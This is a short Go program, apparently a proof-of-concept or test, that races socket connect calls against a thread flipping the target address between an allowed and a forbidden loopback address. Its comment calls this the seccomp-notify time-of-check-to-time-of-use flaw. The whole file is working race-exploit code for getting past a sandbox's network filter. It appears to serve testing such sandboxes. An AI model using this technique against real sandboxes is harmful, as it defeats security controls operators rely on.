// Command racer connects in a loop from several threads while another
// thread keeps flipping the destination in the shared sockaddr buffer between
// an allowed and a forbidden address: the classic seccomp-notify TOCTOU.
package main

import (
	"encoding/binary"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
	"unsafe"
)

func main() {
	port, _ := strconv.Atoi(os.Args[1])
	runtime.GOMAXPROCS(4)
	var buf [4]uint32 // a sockaddr_in, written word by word
	var hdr [4]byte
	binary.LittleEndian.PutUint16(hdr[:2], syscall.AF_INET)
	binary.BigEndian.PutUint16(hdr[2:], uint16(port))
	allowed := binary.LittleEndian.Uint32([]byte{127, 0, 0, 1})
	forbidden := binary.LittleEndian.Uint32([]byte{127, 0, 0, 2})
	atomic.StoreUint32(&buf[0], binary.LittleEndian.Uint32(hdr[:]))
	atomic.StoreUint32(&buf[1], allowed)

	stop := make(chan struct{})
	go func() {
		for {
			select {
			case <-stop:
				return
			default:
				atomic.StoreUint32(&buf[1], forbidden)
				atomic.StoreUint32(&buf[1], allowed)
			}
		}
	}()
	var ok, denied atomic.Int64
	var wg sync.WaitGroup
	deadline := time.Now().Add(1500 * time.Millisecond)
	for w := 0; w < 3; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Now().Before(deadline) {
				fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM, 0)
				if err != nil {
					fmt.Println("socket:", err)
					return
				}
				_, _, e := syscall.Syscall(syscall.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(&buf[0])), 16)
				if e == 0 {
					ok.Add(1)
				} else {
					denied.Add(1)
				}
				syscall.Close(fd)
			}
		}()
	}
	wg.Wait()
	close(stop)
	fmt.Printf("connected=%d denied=%d\n", ok.Load(), denied.Load())
}
